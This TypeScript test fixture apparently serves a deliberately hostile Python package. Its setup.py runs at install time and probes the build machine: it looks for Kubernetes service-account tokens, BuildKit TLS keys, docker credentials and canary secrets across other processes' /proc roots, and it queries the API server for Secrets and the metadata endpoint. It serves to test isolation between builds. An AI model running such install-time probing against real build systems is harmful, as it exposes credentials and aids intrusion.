/**
 * A package whose setup.py looks around the machine that builds it, another one that takes its time, and a server that
 * gives both away.
 *
 * What the first one finds is in the wheel, `hostile/report.json`, so the image itself tells. It looks, knocks and
 * asks; it kills nothing and changes nothing but a file in the package cache, which is one of the questions.
 */
import { createServer } from 'node:http';
import { buffer } from 'node:stream/consumers';
import { createGzip } from 'node:zlib';
import { pack } from 'tar-stream';

/** What its setup.py is told to look for. */
export interface Wanted {
  /** Host and port of daemons to knock at, without a certificate. */
  readonly daemons: readonly string[];
  /** Host and port of the API server. */
  readonly apiServer: string;
  readonly metadata: string;
  /** A file that another build has, by its path there. */
  readonly foreignFile: string;
  /** How long it looks for that file, in seconds. */
  readonly patience: number;
  /** Words that only others' Secrets hold. */
  readonly canaries: readonly string[];
}

/** What it found; a text that begins with an error's name says why not. */
export interface Report {
  readonly user: number;
  /** How each daemon answered a client without a certificate. */
  readonly daemons: Readonly<Record<string, string>>;
  /** Status of a request for Secrets. */
  readonly apiServer: string;
  readonly metadata: string;
  /** Paths at which there was a token of the API server, a key of the daemon, a docker config, the daemon's cache. */
  readonly token: readonly string[];
  readonly key: readonly string[];
  readonly dockerConfig: readonly string[];
  readonly daemonCache: readonly string[];
  /** Content of the other build's file, where it could be read. */
  readonly foreignFile: readonly string[];
  /** Canaries found in environments, in files below /run of any process, or anywhere here. */
  readonly canaries: readonly string[];
  /** First words of the processes it saw. */
  readonly seen: readonly string[];
  /** Of them, those it could send a signal to. */
  readonly killable: readonly string[];
  /** What earlier builds left in the package cache. */
  readonly leftInCache: readonly string[];
}

const SETUP = `import glob, json, os, shutil, socket, ssl, time, urllib.error, urllib.request
from setuptools import setup

WANTED = json.load(open('wanted.json'))

def attempt(work):
    try:
        return work()
    except Exception as error:
        return f'{type(error).__name__}: {error}'

def knock(address):
    host, port = address.rsplit(':', 1)
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(['h2'])
    with socket.create_connection((host, int(port)), timeout=5) as plain:
        with context.wrap_socket(plain) as secure:
            secure.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + bytes(9))
            answer = secure.recv(100)
            return f'answered {len(answer)} bytes'

def fetch(url):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=context))
    try:
        return opener.open(url, timeout=5).read(200).decode()
    except urllib.error.HTTPError as error:
        return str(error.code)

def text(path):
    try:
        with open(path, errors='replace') as file:
            return file.read(100000)
    except OSError:
        return ''

def listed(path):
    try:
        return os.listdir(path)
    except OSError:
        return []

def roots():
    return [''] + [p + '/root' for p in glob.glob('/proc/[0-9]*')]

def anywhere(path):
    return sorted({r + path for r in roots() if text(r + path) or listed(r + path)})

def name(process):
    return text(process + '/cmdline').replace('\\0', ' ')[:40].strip()

def processes():
    return [p for p in glob.glob('/proc/[0-9]*') if name(p)]

def killable(process):
    try:
        os.kill(int(process.split('/')[2]), 0)
        return True
    except OSError:
        return False

def secrets():
    for process in processes():
        yield text(process + '/environ')
        for top in ('/run', '/imagespec', '/root'):
            for folder, _, files in os.walk(process + '/root' + top):
                for file in files[:50]:
                    yield text(os.path.join(folder, file))

def look_around():
    foreign, found = [], set()
    # The other build runs for a while; look until it is seen.
    for _ in range(2 * WANTED['patience']):
        foreign = sorted({text(r + WANTED['foreignFile']).strip() for r in roots()} - {''})
        found |= {canary for canary in WANTED['canaries'] for words in secrets() if canary in words}
        if foreign:
            break
        time.sleep(0.5)
    return {
        'user': os.getuid(),
        'daemons': {address: attempt(lambda: knock(address)) for address in WANTED['daemons']},
        'apiServer': attempt(lambda: fetch(f"https://{WANTED['apiServer']}/api/v1/namespaces/default/secrets")),
        'metadata': attempt(lambda: fetch(WANTED['metadata'])),
        'token': anywhere('/var/run/secrets/kubernetes.io/serviceaccount/token'),
        'key': anywhere('/etc/buildkit/tls.key'),
        'dockerConfig': anywhere('/imagespec/auth/config.json'),
        'daemonCache': anywhere('/home/user/.local/share/buildkit'),
        'foreignFile': foreign,
        'canaries': sorted(found),
        'seen': sorted({name(p) for p in processes()}),
        'killable': sorted({name(p) for p in processes() if killable(p)}),
        'leftInCache': [f for f in listed(CACHE) if f.startswith('hostile-') and f != MINE],
    }

CACHE = '/var/cache/imagespec-uv'
MINE = f"hostile-{WANTED['build']}"
# An installer calls this several times for one build; the first time tells.
if not os.path.exists(f'{CACHE}/{MINE}'):
    with open(f'{CACHE}/{MINE}', 'w') as file:
        json.dump(look_around(), file)
os.makedirs('hostile', exist_ok=True)
open('hostile/__init__.py', 'w').close()
shutil.copy(f'{CACHE}/{MINE}', 'hostile/report.json')
setup(name='hostile', version='1.0', packages=['hostile'], package_data={'hostile': ['report.json']})
`;

/** The other build's: it holds its Secrets for a while, the first time it is called. */
const SLOW_SETUP = `import os, time
from setuptools import setup
open('slow.py', 'w').close()
MARK = '/var/cache/imagespec-uv/slow'
if not os.path.exists(MARK):
    open(MARK, 'w').close()
    time.sleep(40)
setup(name='slow', version='1.0', py_modules=['slow'])
`;

/** The archive as an index would have it. */
async function sdist(name: string, files: Readonly<Record<string, string>>): Promise<Buffer> {
  const archive = pack();
  const all = {
    ...files,
    'pyproject.toml': '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n',
    'PKG-INFO': `Metadata-Version: 2.1\nName: ${name}\nVersion: 1.0\n`,
  };
  for (const [file, content] of Object.entries(all)) archive.entry({ name: `${name}-1.0/${file}` }, content);
  archive.finalize();
  return await buffer(archive.pipe(createGzip()));
}

/**
 * Serves them at `http://address/BUILD/hostile-1.0.tar.gz` and `…/slow-1.0.tar.gz`: each BUILD is another package to a
 * cache, and leaves its name there.
 */
export async function serveHostile(address: string, wanted: Wanted): Promise<{ stop(): Promise<void> }> {
  const [host, port] = address.split(':');
  const server = createServer(async (request, response) => {
    const [, build = '', file = ''] = request.url?.split('/') ?? [];
    const files: Record<string, string> | undefined = {
      'hostile-1.0.tar.gz': { 'setup.py': SETUP, 'wanted.json': JSON.stringify({ ...wanted, build }) },
      'slow-1.0.tar.gz': { 'setup.py': SLOW_SETUP },
    }[file];
    const name = file.split('-')[0] ?? '';
    response.writeHead(files ? 200 : 404).end(files && (await sdist(name, files)));
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject).listen(Number(port), host, resolve);
  });
  return {
    stop: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}
